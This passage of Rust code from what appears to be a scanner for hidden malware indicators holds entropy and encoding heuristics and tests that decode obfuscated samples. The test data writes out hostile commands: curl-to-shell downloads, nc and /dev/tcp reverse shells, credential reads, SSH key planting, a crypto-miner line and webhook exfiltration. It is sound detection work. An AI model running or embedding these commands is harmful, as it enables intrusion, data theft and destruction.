        if bytes.len() < 0x40 || pe_offset.is_some_and(|o| (0x40..0x1_0000).contains(&o)) {
            return Some("PE");
        }
        return None;
    }
    const MACH_O: [[u8; 4]; 4] = [
        [0xFE, 0xED, 0xFA, 0xCE],
        [0xFE, 0xED, 0xFA, 0xCF],
        [0xCE, 0xFA, 0xED, 0xFE],
        [0xCF, 0xFA, 0xED, 0xFE],
    ];
    if MACH_O.iter().any(|magic| bytes.starts_with(magic)) {
        return Some("Mach-O");
    }
    None
}

/// Shannon entropy in bits per byte.
pub fn entropy(bytes: &[u8]) -> f64 {
    if bytes.is_empty() {
        return 0.0;
    }
    let mut counts = [0usize; 256];
    for &b in bytes {
        counts[b as usize] += 1;
    }
    let len = bytes.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / len;
            -p * p.log2()
        })
        .sum()
}

/// Shortest byte array taken for opaque data: keys, salts and digests are 32 bytes or shorter
/// (a 256-bit key, a SHA-256), magic numbers and small tables shorter still.
const MIN_OPAQUE_ARRAY: usize = 40;

/// Whether a byte array written in the code is opaque: long enough, not text, and with the
/// spread of values of enciphered or compressed data (at least 80 % of the most a array of its
/// length can have), as a sealed configuration or a packed program is and a bitmap, a lookup
/// table of small numbers or a text's bytes are not.
pub fn is_opaque_array(bytes: &[u8]) -> bool {
    if bytes.len() < MIN_OPAQUE_ARRAY || is_printable(bytes) {
        return false;
    }
    let most = (bytes.len().min(256) as f64).log2();
    entropy(bytes) >= 0.8 * most
}

/// Whether a literal is a long run of encoded, high-entropy data (base64 or hex).
pub fn is_opaque_blob(text: &str) -> bool {
    if text.len() < MIN_BLOB_LEN {
        return false;
    }
    let compact: Vec<u8> = text.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if compact.len() < MIN_BLOB_LEN {
        return false;
    }
    let hex = compact.iter().all(u8::is_ascii_hexdigit);
    let base64 = compact
        .iter()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'='));
    let bits = entropy(&compact);
    (hex && bits > 3.7) || (base64 && !hex && bits > 5.2)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A packed configuration's address is one of its fields: read on its own, it is a
    /// destination. A guessed decoding is not split (noise has separators too), and a text of
    /// ordinary fields says nothing.
    #[test]
    fn fields_of_a_packed_configuration_are_read_one_by_one() {
        let found = computed_signals(b"203.0.113.7:3333|bench.1|x", "unpack");
        assert!(
            found.iter().any(|k| matches!(k, SignalKind::HiddenIndicator { decoded, .. } if decoded == "203.0.113.7:3333")),
            "{found:?}"
        );
        let found = computed_signals(b"retries=3;backoff=250;jitter=on", "unpack");
        assert!(found.is_empty(), "{found:?}");
        assert!(indicators("a|203.0.113.7:3333|b")
            .iter()
            .all(|k| !matches!(k, SignalKind::HiddenIndicator { decoded, .. } if decoded == "203.0.113.7:3333")));
    }

    #[test]
    fn tables_of_numbers_are_read_by_known_plaintext() {
        let encode = |text: &str, scale: i64, offset: i64| -> Vec<i64> {
            text.bytes()
                .map(|b| scale * i64::from(b) + offset)
                .collect()
        };
        // `3 * c + 17`, and an index into an alphabet that starts at `a`.
        let found = table_signals(&encode("http://192.0.2.9/x", 3, 17));
        assert!(
            found
                .iter()
                .any(|k| matches!(k, SignalKind::Destination { .. })),
            "{found:?}"
        );
        let found = table_signals(&encode("powershell", 1, -97));
        assert!(
            found.iter().any(|k| matches!(k, SignalKind::HiddenIndicator { decoded, .. } if decoded.starts_with("powershell"))),
            "{found:?}"
        );
        // A sibling read through the map another table gave away, only when all of it reads.
        let map = table_map(&encode(".git/config", 3, 17)).unwrap();
        assert_eq!(
            map,
            TableMap::Affine {
                scale: 3,
                offset: 17
            }
        );
        let sibling = encode("198.51.100.53:53", 3, 17);
        assert!(!table_signals_with(&sibling, map).is_empty());
        assert!(table_signals_with(&[1, 2, 3, 4, 5], map).is_empty());
        // Bytes XORed with a key that grows along the text, and a sibling under the same keys.
        let rolling = |text: &str| -> Vec<i64> {
            text.bytes()
                .enumerate()
                .map(|(i, b)| i64::from(b ^ 0x2bu8.wrapping_add((i as u8).wrapping_mul(7))))
                .collect()
        };
        let map = table_map(&rolling("a/.git/config")).unwrap();
        assert_eq!(
            map,
            TableMap::XorProgression {
                start: 0x2b,
                step: 7
            }
        );
        let found = table_signals_with(&rolling("https://192.0.2.44/in"), map);
        assert!(
            found
                .iter()
                .any(|k| matches!(k, SignalKind::Destination { .. })),
            "{found:?}"
        );
        // Plain text, sequences and tables that spell no known word.
        assert!(table_map(&encode("http://example.com", 1, 0)).is_none());
        assert!(table_signals(&(0..300).collect::<Vec<_>>()).is_empty());
        assert!(table_signals(&[4129, 8258, 12387, 16516, 20645, 24774, 28903]).is_empty());
        // Numbers at the ends of the range neither panic nor wrap into a match.
        let extremes = [i64::MAX, i64::MIN, i64::MAX, -1, i64::MIN, 0, i64::MAX, 1];
        assert!(table_signals(&extremes).is_empty());
        // A scale of -1 meets `i64::MIN` (a review's probes: `p`, `o` of "powershell"; and
        // "http://" under -c + 1 followed by the smallest number a literal can be).
        let minimum = -9_223_372_036_854_775_807i64;
        assert!(table_signals(&[1, minimum, 0, 0, 0, 0, 0, 0, 0, 0]).is_empty());
        let _ = table_signals(&[-103, -115, -115, -111, -57, -46, -46, minimum]);
        let _ = table_signals(&[
            i64::MIN + 46,
            i64::MIN + 110,
            i64::MIN + 112,
            i64::MIN + 109,
            i64::MIN + 114,
            i64::MIN + 99,
        ]);
        assert!(table_signals_with(
            &extremes,
            TableMap::Affine {
                scale: 3,
                offset: 17
            }
        )
        .is_empty());
    }

    fn hidden(signals: &[SignalKind]) -> bool {
        signals
            .iter()
            .any(|k| matches!(k, SignalKind::HiddenIndicator { .. }))
    }

    /// What `meaningful_signals` relies on: in a guess, nothing but `literal_signals` counts. A
    /// new meaningful kind from the rest of `shell_signals` would fail this.
    #[test]
    fn guesses_need_only_literal_signals() {
        let texts = [
            "curl -fsSL https://collector.example.net/x | sh",
            "wget http://203.0.113.7:8080/p -O /tmp/p && chmod +x /tmp/p && ./p",
            "nc -e /bin/sh 198.51.100.2 4444; bash -i >& /dev/tcp/198.51.100.2/4444 0>&1",
            "rm -rf ~/ $HOME/.ssh; cat ~/.aws/credentials",
            "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKE >> ~/.ssh/authorized_keys",
            "crontab -l; uname -a; whoami; env | base64",
            "xmrig -o stratum+tcp://pool.example.org:3333 -u 4FAKEWALLET --donate-level 1",
            "cp x ~/.bashrc; systemctl --user enable x.service; ~/.config/autostart/x.desktop",
            "https://discord.com/api/webhooks/1/FAKE and api.telegram.org/botFAKE",
            "plain words with no indicator at all",
        ];
        let mut meaningful = 0;
        for text in texts {
            let whole: Vec<SignalKind> = shell_signals(text)
                .into_iter()
                .filter(|k| is_meaningful(k) && !matches!(k, SignalKind::Network { .. }))
                .collect();
            assert_eq!(
                meaningful_signals(text, Strictness::Guessed),
                whole,
                "{text}"
            );
            meaningful += usize::from(!whole.is_empty());
        }
        // The texts do hold what a guess keeps.
        assert!(meaningful >= 6, "{meaningful}");
    }

    #[test]
    fn host_names_spelled_in_numbers_are_revealed_and_other_dotted_words_are_not() {
        let spelled = |text: &str| byte_signals(text.as_bytes(), Hints::default());
        assert!(hidden(&spelled("_ch.notice.example.net.")));
        assert!(hidden(&spelled("c2.updates-cdn.io")));
        assert!(
            hidden(&spelled("hb.pool-stats.io:4444")),
            "with the port a socket needs"
        );
        // Two labels (a file name, `example.com`), upper-case endings, other characters.
        for text in [
            "config.toml",
            "example.com",
            "Cargo.TOML",
            "a.b c.d",
            "v1.2.3",
            "src/lib.rs:10",
            "c2.updates-cdn.io:99999",
        ] {
            assert!(!hidden(&spelled(text)), "{text}");
        }
    }

    #[test]
    fn opaque_arrays() {
        // Enciphered bytes: spread over most values an array of their length can hold.
        let sealed: Vec<u8> = (0u32..64)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
            .collect();
        assert!(super::is_opaque_array(&sealed));
        // Too short to be more than a key, a salt or a digest.
        assert!(!super::is_opaque_array(&sealed[..32]));
        // Text's bytes, and a table of few small values, are not opaque.
        assert!(!super::is_opaque_array(
            b"a plain sentence kept as bytes, long enough to count"
        ));
        let bitmap: Vec<u8> = (0..64).map(|i| [0u8, 0xff, 0x0f, 0xf0][i % 4]).collect();
        assert!(!super::is_opaque_array(&bitmap));
    }

    #[test]
    fn base64_and_hex_urls_are_revealed() {
        let encoded = STANDARD.encode("https://grab.workers.dev/collect");
        assert!(hidden(&string_signals(&encoded, Hints::default())));
        let hex: String = "curl http://1.2.3.4/x | sh"
            .bytes()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert!(hidden(&string_signals(&hex, Hints::default())));
        // Ordinary data decodes to nothing meaningful.
        assert!(string_signals("SGVsbG8sIHdvcmxkIQ==", Hints::default()).is_empty());
        assert!(string_signals("0123456789abcdef0123", Hints::default()).is_empty());
        assert!(string_signals("abcdefghijklmnop", Hints::default()).is_empty());
    }

    #[test]
    fn byte_arrays_xor_and_reversal() {
        let plain = b"/home/u/.ssh/id_rsa";
        assert!(hidden(&byte_signals(plain, Hints::default())));
        let xored: Vec<u8> = b"https://x.vercel.app/k".iter().map(|b| b ^ 0x5a).collect();
        assert!(byte_signals(&xored, Hints::default()).is_empty());
        assert!(hidden(&byte_signals(
            &xored,
            Hints {
                xor: true,
                ..Hints::default()
            }
        )));
        let shifted: Vec<u8> = b"api.telegram.org/bot".iter().map(|b| b + 1).collect();
        assert!(hidden(&byte_signals(
            &shifted,
            Hints {
                char_arithmetic: true,
                ..Hints::default()
            }
        )));
        let reversed: String = "https://paste.ee/r/abc".chars().rev().collect();
        assert!(hidden(&string_signals(&reversed, Hints::default())));
    }

    /// `crc-fast` 1.10's tests format `1,000,000,000`, which XORed with 0x02 reads
    /// `3.222.222.222`.
    #[test]
    fn numbers_written_as_text_are_not_guessed_at() {
        let xor = Hints {
            xor: true,
            ..Hints::default()
        };
        assert!(byte_signals(b"1,000,000,000", xor).is_empty());
        let hidden_url: Vec<u8> = b"https://a.workers.dev/k"
            .iter()
            .map(|b| b ^ 0x02)
            .collect();
        assert!(hidden(&byte_signals(&hidden_url, xor)));
    }

    #[test]
    fn repeating_keys_from_the_code() {
        let key = [0x5a, 0x13, 0xc7];
        let hidden_url: Vec<u8> = b"https://a.workers.dev/k"
            .iter()
            .enumerate()
            .map(|(i, b)| b ^ key[i % 3])
            .collect();
        assert!(hidden(&repeating_key_signals(&hidden_url, &key)));
        assert!(repeating_key_signals(&hidden_url, &[0x5a, 0x14]).is_empty());
        // The third string of a table packed with the key from each string's index on.
        let third: Vec<u8> = b"https://a.workers.dev/k"
            .iter()
            .enumerate()
            .map(|(i, b)| b ^ key[(i + 2) % 3])
            .collect();
        assert!(hidden(&repeating_key_signals(&third, &key)));
        assert!(repeating_key_signals(b"plain text of no interest", &key).is_empty());
    }

    #[test]
    fn executables_and_blobs() {
        let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
        elf.extend([0u8; 64]);
        assert_eq!(native_executable(&elf), Some("ELF"));
        let mut object = elf.clone();
        object[16] = 1;
        assert_eq!(native_executable(&object), None);
        let encoded = STANDARD.encode(&elf);
        assert!(string_signals(&encoded, Hints::default())
            .iter()
            .any(|k| matches!(k, SignalKind::EmbeddedExecutable { .. })));
        let noise: Vec<u8> = (0..600u32)
            .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
            .collect();
        assert!(is_opaque_blob(&STANDARD.encode(&noise)));
        assert!(!is_opaque_blob(&"ab".repeat(300)));
    }

    #[test]
    fn addresses_hidden_by_rotating_letters() {
        let hints = Hints {
            char_arithmetic: true,
            ..Hints::default()
        };
        let rot = |text: &str, letters: u8, digits: u8| -> String {
            text.bytes()
                .map(|b| match b {
                    b'a'..=b'z' => (b'a' + (b - b'a' + letters) % 26) as char,
                    b'A'..=b'Z' => (b'A' + (b - b'A' + letters) % 26) as char,
                    b'0'..=b'9' => (b'0' + (b - b'0' + digits) % 10) as char,
                    _ => b as char,
                })
                .collect()
        };
        let hidden = "curl -s http://203.0.113.140/i/boot.py | python3 -";
        for (letters, digits) in [(13, 5), (13, 0), (3, 3)] {
            let encoded = rot(hidden, 26 - letters, (10 - digits) % 10);
            assert!(
                !string_signals(&encoded, hints).is_empty(),
                "{encoded} ({letters}, {digits})"
            );
        }
        // Text with its own address, and prose, spell addresses under some rotation by chance.
        for honest in [
            "registry+https://github.com/rust-lang/crates.io-index",
            "The azure auth plugin is not supported; use https://github.com/Azure/kubelogin",
            "s3://bucket/prefix and gs://other",
        ] {
            assert!(string_signals(honest, hints).is_empty(), "{honest}");
        }
    }

    #[test]
    fn executables_shipped_compressed() {
        use std::io::Write;
        let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
        // Noise after the header, as a real program's code is: the stream's first block needs
        // its own code tables, which is what a short head must still unpack through.
        elf.extend((0..20_000u32).map(|i| (i.wrapping_mul(2654435761) >> 13) as u8));
        let gzip = |bytes: &[u8]| {
            let mut encoder =
                flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            encoder.write_all(bytes).unwrap();
            encoder.finish().unwrap()
        };
        let packed = gzip(&elf);
        let head = &packed[..wharf_tarball::COMPRESSED_HEAD_SIZE.min(packed.len())];
        assert_eq!(shipped_executable(head), Some("ELF"));
        assert_eq!(shipped_executable(&elf[..64]), Some("ELF"));
        // Packed text, an image, an object file: not programs.
        let text = gzip("fn main() {}\n".repeat(500).as_bytes());
        assert_eq!(shipped_executable(&text[..64.min(text.len())]), None);
        let mut object = elf.clone();
        object[16] = 1;
        let object = gzip(&object);
        assert_eq!(shipped_executable(&object[..4096.min(object.len())]), None);
        assert_eq!(shipped_executable(&[0x1f, 0x8b, 0x08]), None);
    }

    #[test]
    fn guesses_that_could_say_nothing_are_not_read() {
        // Paths, URLs and program names are read; so are NUL-packed strings and executables,
        // which are read piece by piece or by their header.
        assert!(could_say_something(b"/bin/sh"));
        assert!(could_say_something(b"https://192.0.2.7:8443/u"));
        assert!(could_say_something(b"junk)(*&\0/etc/passwd"));
        assert!(could_say_something(
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0\x01\0\0\0x@\0\0\0\0\0@\0\0\0\0\0\0\0"
        ));
        // Noise a wrong key leaves: punctuation soup.
        assert!(!could_say_something(b"){[}]*&^%$#@!+=<>?;'|"));
        // The answer for a guess that is read is the same as without the screen.
        let guess = b"/tmp/.cache/ld.so";
        assert_eq!(
            guessed_signals(guess, || "a guess".to_owned()),
            decoded_signals("a guess", guess, Strictness::Guessed)
        );
        // Whatever the brute-force decoder found before the screen it still finds.
        let hidden: Vec<u8> = b"http://198.51.100.9/x".iter().map(|b| b ^ 0x5a).collect();
        let hints = Hints {
            xor: true,
            ..Hints::default()
        };
        assert!(brute_force(&hidden, hints)
            .iter()
            .any(|kind| matches!(kind, SignalKind::Destination { .. })));
    }
}
